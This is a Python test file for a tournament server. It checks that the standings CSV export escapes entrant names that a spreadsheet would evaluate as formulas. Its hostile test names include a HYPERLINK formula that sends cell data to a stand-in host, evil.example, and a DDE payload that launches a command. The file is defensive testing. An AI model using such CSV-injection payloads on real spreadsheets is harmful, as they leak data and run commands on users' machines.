"""standings.csv opened in a spreadsheet (OWASP, "CSV Injection"): an
entrant's name is data, never a formula. Measured before: a name such as
`=HYPERLINK("http://evil.example/?"&A1,"Prize")` was written as it is, and
a spreadsheet ran it."""

from __future__ import annotations

import csv
import io

from oriente.server.tournament import Config, Tournament
from oriente.server.tournament.standings import standings_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Prize")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tindented", "\rcarried"]


def test_cells_that_a_spreadsheet_would_run_are_escaped_and_the_rest_kept() -> None:
    t = Tournament(id="t", config=Config(name="Cup", table_sizes=(4,), rounds=1, seed=5), organiser_hash="o")
    names = [*HOSTILE, "ana", "Bea-Maria", "o'Neil"]
    for i, name in enumerate(names):
        entrant = t.register(f"p{i}", token_hash=f"h{i}")
        entrant.name = name  # as if registration let it through: the export must not rely on it
    t.start_round()
    rnd = t.current()
    assert rnd is not None
    for table in rnd.tables:
        t.record_result(rnd.number, table.index, list(range(1, len(table.entrants) + 1)))
    text = standings_csv(t)
    rows = list(csv.DictReader(io.StringIO(text)))
    by_id = {r["id"]: r for r in rows}
    for i, name in enumerate(names):
        cell = by_id[f"e{i + 1}"]["name"]
        if name in HOSTILE:
            assert cell == "'" + name, cell  # shown as the text it is
        else:
            assert cell == name
    for row in rows:  # nothing a spreadsheet would evaluate, in any text column
        for column in ("name", "kind", "status", "id"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
    # Numbers stay numbers (a negative board score is the server's, not a formula).
    assert all(float(r["points"]) >= 0 for r in rows)
    # Every text cell is quoted, so a comma or a quote in a name cannot open a new cell.
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Prize"")"' in text
